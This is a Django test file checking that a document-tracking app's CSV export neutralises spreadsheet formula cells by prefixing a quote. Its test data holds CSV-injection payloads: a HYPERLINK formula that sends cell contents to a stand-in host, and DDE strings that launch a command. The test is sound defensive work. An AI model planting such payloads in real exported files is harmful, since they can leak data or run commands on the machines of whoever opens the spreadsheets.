"""The CSV export neutralises cells a spreadsheet would run as formulas (OWASP "CSV injection"):
a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading quote."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

from django.http import StreamingHttpResponse
from django.test import Client
from django.urls import reverse

from dondoc.tracking.models import Document, Task, Unit

DANGEROUS = {
    "content": '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")',
    "section": "+1+cmd|' /C calc'!A0",
    "deadline_text": "-2+3",
    "result": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _csv(response: StreamingHttpResponse) -> list[list[str]]:
    raw = b"".join(response.streaming_content)  # type: ignore[arg-type]
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_formula_cells_are_neutralised(confirmed_notice: Document, login: Callable[[str], Client]) -> None:
    task = confirmed_notice.tasks.order_by("order").first()
    assert task is not None and task.lead is not None
    Task.objects.filter(pk=task.pk).update(**DANGEROUS)
    Document.objects.filter(pk=confirmed_notice.pk).update(number="\t=1+1")
    Unit.objects.filter(pk=task.lead_id).update(name="\r=2+2 Sở")
    rows = _csv(login("vanphong").get(reverse("tracking:task_csv")))
    header, body = rows[0], rows[1:]
    row = next(r for r in body if r[0] == str(task.pk))
    cells = dict(zip(header, row, strict=True))
    assert cells["Nội dung nhiệm vụ"] == "'" + DANGEROUS["content"]
    assert cells["Mục"] == "'" + DANGEROUS["section"]
    assert cells["Thời hạn (nguyên văn)"] == "'" + DANGEROUS["deadline_text"]
    assert cells["Kết quả thực hiện"] == "'" + DANGEROUS["result"]
    assert cells["Đơn vị chủ trì"] == "'\r=2+2 Sở"
    for r in body:
        for cell in r:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (r[0], cell)
    assert all(r[1] == "'\t=1+1" for r in body)  # the document's number, on each of its tasks
    # Ordinary cells are left as they are.
    other = next(r for r in body if r[0] != str(task.pk))
    assert not any(cell.startswith("'") for cell in other[2:]), other
